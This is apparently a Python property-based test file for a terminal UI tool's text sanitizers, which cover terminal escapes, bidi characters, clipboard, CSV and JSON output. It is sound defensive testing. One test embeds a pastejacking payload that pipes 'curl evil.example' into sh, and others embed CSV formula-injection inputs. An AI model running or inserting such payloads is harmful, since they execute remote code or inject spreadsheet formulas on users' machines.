"""The one rule for text that leaves the tool, per destination (tui/core/text.py)."""

from __future__ import annotations

import csv
import io
import json
import unicodedata

from hypothesis import given, strategies as st

from tui.core.text import FORMULA_PREFIX, for_clipboard, for_csv, for_terminal, is_safe, json_text, visible

BIDI = {"\u061c", "\u200e", "\u200f", *map(chr, range(0x202A, 0x202F)), *map(chr, range(0x2066, 0x206A))}


def acts_on_terminal(ch: str) -> bool:
    return unicodedata.category(ch) == "Cc" or ch in BIDI or ch in "\u2028\u2029"


@given(st.text())
def test_terminal_text_holds_nothing_a_terminal_acts_on(text):
    out = for_terminal(text)
    assert not any(acts_on_terminal(c) for c in out)
    assert is_safe(out)
    assert for_clipboard(text) == out


@given(st.text())
def test_screen_text_is_one_safe_line(text):
    out = visible(text)
    assert not any(acts_on_terminal(c) for c in out)


def test_escapes_are_readable():
    assert for_terminal("a\x1b[31mb\x07") == "a\\x1b[31mb\\x07"
    assert for_terminal("x\u202ey") == "x\\u202ey"
    assert for_terminal("one\ntwo") == "one\\x0atwo"
    assert visible("one\ntwo\tthree") == "one two three"


def test_pastejacking_url_stays_on_its_line():
    url = "https://example.org/\n\ncurl evil.example|sh\n"
    assert "\n" not in for_clipboard(url)


@given(st.text())
def test_csv_cells_round_trip_through_a_reader_safely(text):
    cell = for_csv(text)
    buf = io.StringIO()
    csv.writer(buf, lineterminator="\n").writerow([cell, "next"])
    (back,) = list(csv.reader(io.StringIO(buf.getvalue())))
    assert back == [cell, "next"]
    assert not back[0].startswith(("=", "+", "-", "@", "\t", "\r"))
    assert not any(acts_on_terminal(c) and c not in "\n\t" for c in back[0])


def test_csv_formulas_get_the_prefix_and_numbers_do_not():
    assert for_csv("=HYPERLINK(\"http://x\")") == FORMULA_PREFIX + "=HYPERLINK(\"http://x\")"
    assert for_csv("@SUM(A1)") == "'@SUM(A1)"
    assert for_csv("-5") == "'-5"          # text that looks like a number is still text
    assert for_csv(-5) == -5 and for_csv(2.5) == 2.5
    assert for_csv(True) == "True" and for_csv(None) == ""
    assert for_csv("line one\nline two\tx") == "line one\nline two\tx"
    assert for_csv("bell\x07") == "bell\\x07"


@given(st.recursive(st.none() | st.booleans() | st.integers() | st.text(),
                    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(), inner, max_size=3),
                    max_leaves=10))
def test_json_values_are_exact_and_the_file_is_safe(data):
    out = json_text(data)
    assert json.loads(out) == data
    assert not any(acts_on_terminal(c) for c in out)
